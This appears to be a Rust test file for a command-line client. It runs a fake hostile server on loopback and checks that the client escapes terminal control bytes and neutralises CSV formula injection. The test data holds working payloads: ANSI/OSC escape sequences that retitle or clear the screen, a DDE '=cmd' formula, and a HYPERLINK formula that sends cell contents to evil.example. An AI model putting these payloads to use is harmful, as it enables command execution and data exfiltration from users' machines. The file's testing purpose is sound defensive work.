//! What a hostile server (ours, on 127.0.0.1 only) names things must not act
//! on the terminal nor become a spreadsheet formula: every command that
//! prints names, splash text or a server's error message prints no raw
//! control byte (C0 but line feed, DEL, C1, bidi controls), and every CSV
//! report has no cell that starts a formula.

use crate::common;

use std::path::Path;
use std::process::Output;

use axum::Router;
use axum::http::StatusCode;
use axum::response::IntoResponse;
use axum::routing::get;
use serde_json::{Value, json};

/// Retitles the window (OSC 0), clears it, plants a link (OSC 8), a C1 CSI,
/// a carriage return that hides what came before, a bidi override, DEL.
const EVIL: &str = "A\u{1b}]0;pwned\u{7}B\u{1b}[2J\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\\u{9b}31m\rC\u{202e}D\u{7f}";

/// Cells a spreadsheet would run.
const FORMULAS: [&str; 5] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "+Ann",
    "@Org",
    "\r=1+1",
];

fn name(i: usize) -> String {
    if i.is_multiple_of(2) {
        format!("{}{EVIL}", FORMULAS[i % FORMULAS.len()])
    } else {
        FORMULAS[i % FORMULAS.len()].to_string()
    }
}

async fn serve() -> String {
    let app = Router::new()
        .route(
            "/v2/workspaces",
            get(|| async {
                axum::Json(json!({"workspace": [
                    {"id": 7, "workspaceName": name(0), "name": name(0), "phase": EVIL, "status": EVIL},
                ]}))
            }),
        )
        .route(
            "/v2/workspaces/{ws}",
            get(|| async { axum::Json(json!({"workspace": [{"id": 7, "workspaceName": name(0)}]})) }),
        )
        .route(
            "/v2/workspaces/{ws}/folders",
            get(|axum::extract::Path(ws): axum::extract::Path<i64>| async move {
                match ws {
                    400 => (
                        StatusCode::BAD_REQUEST,
                        axum::Json(json!({
                            "status": {"code": 400, "subcode": "2-1", "message": EVIL},
                            "errors": [{"code": 400, "subCode": "2-1", "message": EVIL}]
                        })),
                    )
                        .into_response(),
                    401 => (
                        StatusCode::UNAUTHORIZED,
                        axum::Json(json!({"error": "invalid_token", "error_description": EVIL})),
                    )
                        .into_response(),
                    _ => axum::Json(json!({"folder": [
                        {"id": 10, "name": name(0)},
                        {"id": 11, "name": name(1), "parentId": 10},
                        {"id": 12, "name": name(2), "parentId": 11},
                    ]}))
                    .into_response(),
                }
            }),
        )
        .route(
            "/v2/workspaces/{ws}/documents",
            get(|| async {
                let docs: Vec<Value> = (0..5)
                    .map(|i| {
                        json!({"id": 100 + i, "name": name(i), "parentId": 10 + (i % 3) as i64,
                               "fileSize": 12, "fileHashDownload": "=A1", "version": "v1",
                               "note": name(i + 1)})
                    })
                    .collect();
                axum::Json(json!({"document": docs}))
            }),
        )
        .route(
            "/v2/workspaces/{ws}/groups",
            get(|| async {
                axum::Json(json!({
                    "groups": [
                        {"id": 20, "groupName": name(0), "groupType": EVIL},
                        {"id": 21, "groupName": name(3), "groupType": "+x"},
                    ],
                    "workspaceGroupMembers": [
                        {"groupId": 20, "workspaceUserId": 30},
                        {"groupId": 21, "workspaceUserId": 31},
                    ]
                }))
            }),
        )
        .route(
            "/v2/workspaces/{ws}/users",
            get(|| async {
                axum::Json(json!({"users": [
                    {"id": 30, "emailId": format!("{}@evil.example", name(0)), "firstName": name(1),
                     "lastName": name(2), "organization": name(3), "roleType": EVIL},
                    {"id": 31, "emailId": "@x.example", "firstName": "-1+1", "lastName": "+1",
                     "organization": "=1", "roleType": "REVIEWER"},
                ]}))
            }),
        )
        .route(
            "/v2/workspaces/{ws}/permissions",
            get(|| async {
                axum::Json(json!({"permissions": [
                    {"id": 1, "folderId": 10, "groupId": 20, "permission": "SEE"},
                    {"id": 2, "folderId": 11, "groupId": 21, "permission": "SEE_AND_DOWNLOAD"},
                ]}))
            }),
        )
        .route(
            "/v2/workspaces/{ws}/splash",
            get(|| async {
                axum::Json(json!({"splash": {"splashText": format!("Welcome\n{EVIL}"),
                                             "acceptText": EVIL, "workspaceName": EVIL}}))
            }),
        );
    common::serve_on_loopback(app).await
}

async fn run(url: &str, args: &[&str], cwd: &Path) -> Output {
    common::run_with_token(url, "tok-hostile-output", args, cwd).await
}

/// The raw control characters in `bytes` (line feed allowed), as text.
fn raw_controls(bytes: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(bytes)
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
        })
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

fn assert_clean(what: &str, o: &Output) {
    for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        let found = raw_controls(bytes);
        assert!(
            found.is_empty(),
            "{what}: {} raw control characters on {stream} ({found:?}): {}",
            found.len(),
            String::from_utf8_lossy(bytes).escape_debug()
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_server_text_reaches_the_terminal_raw() {
    let url = serve().await;
    let dir = tempfile::tempdir().unwrap();
    let cwd = dir.path();
    let listings: [&[&str]; 6] = [
        &["workspaces"],
        &["folders", "7"],
        &["documents", "7"],
        &["groups", "7"],
        &["users", "7"],
        &["splash", "7"],
    ];
    for args in listings {
        let o = run(&url, args, cwd).await;
        assert!(
            o.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_clean(&format!("{args:?}"), &o);
        // The text is shown, escaped: a person can still read what is there.
        let shown = String::from_utf8_lossy(&o.stdout);
        assert!(shown.contains("\\x1b]0;pwned\\x07"), "{args:?}: {shown}");
    }
    for ws in ["400", "401"] {
        let o = run(&url, &["folders", ws], cwd).await;
        assert_eq!(o.status.code(), Some(1), "folders {ws}");
        assert_clean(&format!("folders {ws}"), &o);
        let shown = String::from_utf8_lossy(&o.stderr);
        assert!(shown.starts_with("error: "), "{shown}");
        assert_eq!(shown.lines().count(), 1, "one line: {shown}");
    }
    // JSON stays exact: the same names, read back.
    let o = run(&url, &["--json", "workspaces"], cwd).await;
    assert_clean("--json workspaces", &o);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v[0]["workspaceName"], name(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn local_names_are_escaped_too() {
    let url = serve().await;
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir(&tree).unwrap();
    std::fs::write(tree.join("x\u{1b}[2J\u{9b}y\u{202e}.txt"), b"local").unwrap();
    let o = run(&url, &["diff", "7", "tree"], dir.path()).await;
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_clean("diff", &o);
    assert!(String::from_utf8_lossy(&o.stdout).contains("x\\x1b[2J\\x9by\\u{202e}.txt"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_report_cell_starts_a_formula() {
    let url = serve().await;
    let dir = tempfile::tempdir().unwrap();
    let mut cells = 0;
    for report in ["documents", "members", "access"] {
        let o = run(&url, &["report", report, "7"], dir.path()).await;
        assert!(
            o.status.success(),
            "{report}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_clean(
            report,
            &Output {
                stdout: vec![],
                ..o.clone()
            },
        );
        let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
        let mut rows = 0;
        for record in reader.records() {
            let record = record.unwrap();
            rows += 1;
            for cell in record.iter() {
                cells += 1;
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{report}: formula cell {cell:?}"
                );
            }
        }
        assert!(rows >= 2, "{report}: {rows} rows");
    }
    assert!(cells > 50, "only {cells} cells checked");
}
